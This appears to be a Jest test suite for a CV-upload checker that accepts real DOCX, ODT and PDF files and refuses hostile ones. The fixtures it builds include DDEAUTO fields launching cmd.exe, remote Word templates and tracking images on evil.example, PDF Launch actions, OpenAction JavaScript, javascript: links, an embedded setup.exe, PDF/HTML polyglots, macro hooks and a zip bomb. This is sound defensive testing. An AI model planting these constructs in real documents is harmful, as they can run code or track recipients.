/**
 * @jest-environment node
 */
// Issue 54: a CV is judged by what it holds. Documents made by real tools (LibreOffice, Ghostscript, qpdf: see
// e2e/fixtures/documents/README.md) are taken; every hostile file of the issue, built here from those documents,
// is refused with the message the visitor sees next to the field.
import { crc32, deflateRawSync } from 'node:zlib';
import { PDFDict, PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { declaring, documentFixture, listing, relating, rezip } from '@/test/support/cv-documents';
import { zipBomb, zipOf } from '@/test/support/zip';
import { cvVerdict } from '../cv-content';
import { MAX_UNPACKED_BYTES } from '../zip-entries';

const DOCX = documentFixture('cv-libreoffice.docx');
const ODT = documentFixture('cv-libreoffice.odt');
const LIBREOFFICE_PDF = documentFixture('cv-libreoffice.pdf');
const GHOSTSCRIPT_PDF = documentFixture('cv-ghostscript.pdf');
/** An OLE compound file (what an embedded object is): LibreOffice's Word 97 document. */
const OLE = documentFixture('cv-libreoffice.doc');
/** A Windows program's first bytes. */
const PROGRAM = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(120)]);

const DOCX_RELS = 'word/_rels/document.xml.rels';
const TYPES = '[Content_Types].xml';
const MANIFEST = 'META-INF/manifest.xml';

describe('documents made by real tools', () => {
  it.each([
    ['cv-libreoffice.docx', 'docx'],
    ['cv-libreoffice.odt', 'odt'],
    ['cv-libreoffice.pdf', 'pdf'],
    ['cv-ghostscript.pdf', 'pdf'],
    ['cv-qpdf-object-streams.pdf', 'pdf'],
  ])('%s is taken as a %s', async (file, kind) => {
    expect(await cvVerdict(file, documentFixture(file))).toEqual({ kind });
  });

  it('a DOCX with another picture and Word’s printer settings is taken', async () => {
    const docx = await rezip(DOCX, {
      add: [
        { name: 'word/media/image9.jpeg', data: Buffer.from([0xff, 0xd8, 0xff, 0xe0]) },
        { name: 'word/printerSettings/printerSettings1.bin', data: Buffer.alloc(64) },
      ],
      edit: {
        [TYPES]: declaring(
          '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"/>',
        ),
        [DOCX_RELS]: relating('image', 'media/image9.jpeg'),
      },
    });
    expect(await cvVerdict('cv.docx', docx)).toEqual({ kind: 'docx' });
  });

  it('a document is taken only under its own kind of name', async () => {
    expect(await cvVerdict('cv.docx', LIBREOFFICE_PDF)).toEqual({ problem: 'content' });
    expect(await cvVerdict('cv.pdf', DOCX)).toEqual({ problem: 'content' });
    expect(await cvVerdict('cv.odt', DOCX)).toEqual({ problem: 'content' });
    expect(await cvVerdict('cv.docx', ODT)).toEqual({ problem: 'content' });
    expect(await cvVerdict('cv.exe', GHOSTSCRIPT_PDF)).toEqual({ problem: 'type' });
    expect(await cvVerdict('cv.pdf', PROGRAM)).toEqual({ problem: 'content' });
  });
});

describe('a .doc', () => {
  it('is no longer taken, made by LibreOffice or carrying VBA macros and AutoOpen', async () => {
    const macros = Buffer.concat([OLE, Buffer.from('Macros\0VBA\0_VBA_PROJECT\0AutoOpen', 'utf16le')]);
    expect(await cvVerdict('cv.doc', OLE)).toEqual({ problem: 'doc' });
    expect(await cvVerdict('CV.DOC', macros)).toEqual({ problem: 'doc' });
    // Renamed, it is not the document its name says.
    expect(await cvVerdict('cv.docx', macros)).toEqual({ problem: 'content' });
    expect(await cvVerdict('cv.pdf', macros)).toEqual({ problem: 'content' });
  });
});

describe('a DOCX holding what a CV does not', () => {
  const OLE_TYPE = 'application/vnd.openxmlformats-officedocument.oleObject';
  it.each([
    ['an OLE object under another name', 'word/embeddings/oleObject1.dat', OLE, `dat`, OLE_TYPE],
    ['an OLE object in a sub-folder', 'word/embeddings/sub/oleObject1.bin', OLE, 'bin', OLE_TYPE],
    ['an embedded .xlsm', 'word/embeddings/Book1.xlsm', DOCX, 'xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12'],
    ['an embedded .docm', 'word/media/letter.docm', DOCX, 'docm', 'application/vnd.ms-word.document.macroEnabled.12'],
    ['setup.exe. (a trailing dot)', 'word/media/setup.exe.', PROGRAM, 'exe.', 'image/png'],
    ['a .msc', 'word/media/console.msc', PROGRAM, 'msc', 'application/xml'],
    ['a .reg', 'word/media/keys.reg', PROGRAM, 'reg', 'application/xml'],
    ['a .xll', 'word/media/addin.xll', PROGRAM, 'xll', 'image/png'],
    ['an .iso', 'word/media/disk.iso', PROGRAM, 'iso', 'image/png'],
    ['a .one', 'word/media/notes.one', PROGRAM, 'one', 'image/png'],
    ['macros', 'word/vbaProject.bin', OLE, 'bin', 'application/vnd.ms-office.vbaProject'],
    ['an ActiveX control', 'word/activeX/activeX1.xml', '<ax:ocx/>', 'xml', 'application/xml'],
  ])('%s is refused', async (_, name, data, extension, type) => {
    // Declared as its author chose (its true type or an innocent one), and not declared at all.
    const declared = await rezip(DOCX, {
      add: [{ name, data }],
      edit: { [TYPES]: declaring(`<Default Extension="${extension}" ContentType="${type}"/>`) },
    });
    const undeclared = await rezip(DOCX, { add: [{ name, data }] });
    expect(await cvVerdict('cv.docx', declared)).toEqual({ problem: 'active' });
    expect(await cvVerdict('cv.docx', undeclared)).toEqual({ problem: 'active' });
  });

  it('an OLE object named and declared as a picture is refused by its relationship', async () => {
    const docx = await rezip(DOCX, {
      add: [{ name: 'word/media/image2.png', data: OLE }],
      edit: { [DOCX_RELS]: relating('oleObject', 'media/image2.png') },
    });
    expect(await cvVerdict('cv.docx', docx)).toEqual({ problem: 'active' });
  });

  it('a template on the writer’s own disk, as Word records a CV made from one, is taken', async () => {
    const settingsRels = 'word/_rels/settings.xml.rels';
    const local = await rezip(DOCX, {
      add: [
        {
          name: settingsRels,
          data: relating(
            'attachedTemplate',
            'file:///C:\\Users\\ana\\Templates\\Resume.dotx',
            true,
          )('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'),
        },
      ],
    });
    expect(await cvVerdict('cv.docx', local)).toEqual({ kind: 'docx' });
  });

  it.each([
    ['a remote template', relating('attachedTemplate', 'https://evil.example/t.dotm', true)],
    ['a template on a share', relating('attachedTemplate', '\\\\evil.example\\share\\t.dotm', true)],
    ['a template on another host', relating('attachedTemplate', 'file://evil.example/t.dotm', true)],
    ['an embedded package', relating('package', 'media/image1.png')],
    ['an alternative chunk', relating('aFChunk', 'media/image1.png')],
    ['an Office add-in', relating('webextension', 'webextensions/webextension1.xml')],
    ['a picture fetched from elsewhere', relating('image', 'https://evil.example/track.png', true)],
  ])('%s is refused', async (_, edit) => {
    expect(await cvVerdict('cv.docx', await rezip(DOCX, { edit: { [DOCX_RELS]: edit } }))).toEqual({
      problem: 'active',
    });
  });

  it.each([
    [
      'a DDEAUTO field',
      '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r>',
    ],
    [
      'a DDE field split over runs',
      '<w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText>DE cmd "/c calc" </w:instrText></w:r>',
    ],
    ['a simple DDE field', '<w:fldSimple w:instr=\' DDEAUTO cmd "/c calc" \'/>'],
  ])('%s is refused', async (_, field) => {
    const docx = await rezip(DOCX, {
      edit: { 'word/document.xml': (xml) => xml.replace('</w:body>', `<w:p>${field}</w:p></w:body>`) },
    });
    expect(await cvVerdict('cv.docx', docx)).toEqual({ problem: 'active' });
  });

  it('a page-number field is no program', async () => {
    const docx = await rezip(DOCX, {
      edit: {
        'word/document.xml': (xml) =>
          xml.replace('</w:body>', '<w:p><w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r></w:p></w:body>'),
      },
    });
    expect(await cvVerdict('cv.docx', docx)).toEqual({ kind: 'docx' });
  });

  it('a macro-enabled document renamed .docx is refused', async () => {
    const docm = await rezip(DOCX, {
      edit: {
        [TYPES]: (xml) =>
          xml.replace(
            'wordprocessingml.document.main+xml',
            'wordprocessingml.document.main+xml" /><Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml',
          ),
      },
    });
    expect(await cvVerdict('cv.docx', docm)).toEqual({ problem: 'active' });
  });
});

describe('an ODT holding what a CV does not', () => {
  it.each([
    ['an `Object 2` OLE part', 'Object 2', OLE, 'application/vnd.sun.star.oleobject'],
    ['an embedded chart', 'Object 1/content.xml', '<office:document-content/>', 'text/xml'],
    ['its replacement picture', 'ObjectReplacements/Object 2', OLE, 'image/png'],
    ['Basic macros', 'Basic/Standard/Module1.xml', '<script:module/>', 'text/xml'],
    ['a script', 'Scripts/python/run.py', 'import os', 'text/plain'],
    ['a program as a picture', 'Pictures/setup.exe', PROGRAM, 'image/png'],
  ])('%s is refused', async (_, name, data, type) => {
    const listed = await rezip(ODT, { add: [{ name, data }], edit: { [MANIFEST]: listing(name, type) } });
    const unlisted = await rezip(ODT, { add: [{ name, data }] });
    expect(await cvVerdict('cv.odt', listed)).toEqual({ problem: 'active' });
    expect(await cvVerdict('cv.odt', unlisted)).toEqual({ problem: 'active' });
  });

  it.each([
    [
      'an OLE object from a part listed as a picture',
      '<draw:frame><draw:object-ole xlink:href="./Pictures/photo2.png"/></draw:frame>',
    ],
    [
      'a macro run when it opens',
      '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>',
    ],
  ])('%s in its text is refused', async (_, markup) => {
    const odt = await rezip(ODT, {
      add: [{ name: 'Pictures/photo2.png', data: OLE }],
      edit: {
        [MANIFEST]: listing('Pictures/photo2.png', 'image/png'),
        'content.xml': (xml) => xml.replace('</office:text>', `<text:p>${markup}</text:p></office:text>`),
      },
    });
    expect(await cvVerdict('cv.odt', odt)).toEqual({ problem: 'active' });
  });

  it('a password-protected ODT, and a DOCX Office encrypted, are refused as protected', async () => {
    const odt = await rezip(ODT, {
      edit: {
        [MANIFEST]: (xml) =>
          xml.replace(
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>',
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data manifest:checksum-type="SHA1/1K"/></manifest:file-entry>',
          ),
      },
    });
    const docx = Buffer.concat([OLE.subarray(0, 512), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(512)]);
    expect(await cvVerdict('cv.odt', odt)).toEqual({ problem: 'protected' });
    expect(await cvVerdict('cv.docx', docx)).toEqual({ problem: 'protected' });
  });

  it('is no ODT without its mimetype first', async () => {
    const text = await rezip(ODT, { edit: { mimetype: () => 'application/vnd.oasis.opendocument.spreadsheet' } });
    expect(await cvVerdict('cv.odt', text)).toEqual({ problem: 'content' });
  });
});

describe('a zip that unpacks to far more than it is', () => {
  it('a 4 MB zip of real deflated zeros inflating to 4 GB is refused from its directory', async () => {
    const bomb = zipBomb();
    expect(bomb.length).toBeGreaterThan(4_000_000);
    expect(bomb.length).toBeLessThan(5 * 1024 * 1024);
    expect(await cvVerdict('cv.docx', bomb)).toEqual({ problem: 'unpacked' });
  }, 30_000);

  it('a directory declaring 4 GB, or more than the cap, is refused without reading a part', async () => {
    const declares = (size: number) =>
      zipOf([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' },
        { name: 'content.xml', deflated: { packed: deflateRawSync('<x/>'), size, crc: 0 } },
      ]);
    expect(await cvVerdict('cv.odt', declares(0xf0000000))).toEqual({ problem: 'unpacked' });
    expect(await cvVerdict('cv.odt', declares(MAX_UNPACKED_BYTES + 1))).toEqual({ problem: 'unpacked' });
  });

  it('a describing part that inflates past the size its directory declares is not read', async () => {
    const xml = `<Types>${' '.repeat(200_000)}</Types>`;
    const lying = zipOf([
      { name: '[Content_Types].xml', deflated: { packed: deflateRawSync(xml), size: 100, crc: crc32(xml) } },
      { name: 'word/document.xml', data: '<w:document/>' },
    ]);
    expect(await cvVerdict('cv.docx', lying)).toEqual({ problem: 'content' });
  });
});

describe('a PDF', () => {
  /** The Ghostscript CV with `change` made by pdf-lib, saved with object streams (pdf-lib's default). */
  async function changed(change: (document: PDFDocument) => void | Promise<void>) {
    const document = await PDFDocument.load(GHOSTSCRIPT_PDF);
    await change(document);
    return Buffer.from(await document.save({ useObjectStreams: true }));
  }
  /** A dictionary of `entries` (names as strings, as pdf-lib's `obj` takes them). */
  const action = (document: PDFDocument, entries: Record<string, unknown>): PDFDict =>
    document.context.obj(entries as Parameters<typeof document.context.obj>[0]) as unknown as PDFDict;
  const linkWith = (document: PDFDocument, a: unknown) => {
    const annotation = document.context.register(
      action(document, { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: a }),
    );
    document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([annotation]));
  };

  it('opening at a page (LibreOffice’s /OpenAction) and a web link are taken', async () => {
    expect(LIBREOFFICE_PDF.toString('latin1')).toContain('/OpenAction[');
    const linked = await changed((document) =>
      linkWith(document, action(document, { S: 'URI', URI: PDFString.of('https://example.org/me') })),
    );
    expect(await cvVerdict('cv.pdf', linked)).toEqual({ kind: 'pdf' });
  });

  it.each([
    [
      'an /OpenAction running JavaScript (inside an object stream)',
      (document: PDFDocument) =>
        document.catalog.set(
          PDFName.of('OpenAction'),
          action(document, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
        ),
    ],
    [
      'a link launching cmd.exe',
      (document: PDFDocument) =>
        linkWith(document, action(document, { S: 'Launch', F: PDFString.of('cmd.exe'), NewWindow: true })),
    ],
    [
      'an embedded setup.exe',
      (document: PDFDocument) => document.attach(PROGRAM, 'setup.exe', { mimeType: 'application/octet-stream' }),
    ],
    [
      'a javascript: link',
      (document: PDFDocument) =>
        linkWith(document, action(document, { S: 'URI', URI: PDFString.of('javascript:alert(1)') })),
    ],
    [
      'an /OpenAction opening a web page',
      (document: PDFDocument) =>
        document.catalog.set(
          PDFName.of('OpenAction'),
          action(document, { S: 'URI', URI: PDFString.of('https://evil.example/') }),
        ),
    ],
    [
      'additional actions on a page',
      (document: PDFDocument) =>
        document.getPage(0).node.set(PDFName.of('AA'), action(document, { O: { S: 'GoTo', D: [0, 'Fit'] } })),
    ],
    [
      'an XFA form',
      (document: PDFDocument) =>
        document.catalog.set(PDFName.of('AcroForm'), action(document, { Fields: [], XFA: PDFString.of('<xdp/>') })),
    ],
    [
      'a file attachment annotation',
      (document: PDFDocument) =>
        document
          .getPage(0)
          .node.set(
            PDFName.of('Annots'),
            document.context.obj([action(document, { Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 9, 9] })]),
          ),
    ],
    [
      'a RichMedia annotation',
      (document: PDFDocument) =>
        document
          .getPage(0)
          .node.set(
            PDFName.of('Annots'),
            document.context.obj([action(document, { Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 9, 9] })]),
          ),
    ],
  ])('with %s is refused', async (_, change) => {
    const pdf = await changed(change);
    expect(await cvVerdict('cv.pdf', pdf)).toEqual({ problem: 'active' });
  });

  it('a file attachment named by reference, and a javascript: link in a chain of actions, are refused', async () => {
    const attachment = await changed((document) => {
      const subtype = document.context.register(PDFName.of('FileAttachment'));
      const annotation = action(document, { Type: 'Annot', Rect: [0, 0, 9, 9] });
      annotation.set(PDFName.of('Subtype'), subtype);
      document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([annotation]));
    });
    const chained = await changed((document) =>
      linkWith(
        document,
        action(document, {
          S: 'GoTo',
          D: [0, 'Fit'],
          Next: [{ S: 'URI', URI: PDFString.of('javascript:app.alert(1)') }],
        }),
      ),
    );
    expect(await cvVerdict('cv.pdf', attachment)).toEqual({ problem: 'active' });
    expect(await cvVerdict('cv.pdf', chained)).toEqual({ problem: 'active' });
  });

  it('a Launch action no link refers to is refused all the same', async () => {
    const pdf = await changed((document) => {
      document.context.register(action(document, { S: 'Launch', F: PDFString.of('cmd.exe') }));
    });
    expect(await cvVerdict('cv.pdf', pdf)).toEqual({ problem: 'active' });
  });

  it('the JavaScript probe hides in an object stream, and is found there', async () => {
    const pdf = await changed((document) =>
      document.catalog.set(PDFName.of('OpenAction'), action(document, { S: 'JavaScript', JS: PDFString.of('x') })),
    );
    expect(pdf.toString('latin1')).not.toContain('/JavaScript');
    expect(await cvVerdict('cv.pdf', pdf)).toEqual({ problem: 'active' });
  });

  it('a %PDF- + HTML polyglot, or a PDF with HTML after its end, is refused', async () => {
    const body = GHOSTSCRIPT_PDF.subarray(GHOSTSCRIPT_PDF.indexOf('\n') + 1);
    const polyglot = Buffer.concat([
      Buffer.from('%PDF-1.7\n<html><body><script>alert(document.domain)</script></body></html>\n'),
      body,
    ]);
    const htmlOnly = Buffer.from('%PDF-1.4\n<!DOCTYPE html><html><script>alert(1)</script></html>\n%%EOF\n');
    const tail = Buffer.concat([GHOSTSCRIPT_PDF, Buffer.from('<html><script>alert(1)</script></html>')]);
    for (const bytes of [polyglot, htmlOnly, tail])
      expect(await cvVerdict('cv.pdf', bytes)).toEqual({ problem: 'content' });
  });

  it('a PDF cut short, or only a header, is refused', async () => {
    for (const bytes of [GHOSTSCRIPT_PDF.subarray(0, 1500), Buffer.from('%PDF-1.7\n%%EOF\n')])
      expect(await cvVerdict('cv.pdf', bytes)).toEqual({ problem: 'content' });
  });

  it('an encrypted PDF (qpdf) is refused: its objects cannot be read', async () => {
    expect(await cvVerdict('cv.pdf', documentFixture('cv-qpdf-encrypted.pdf'))).toEqual({ problem: 'protected' });
  });
});
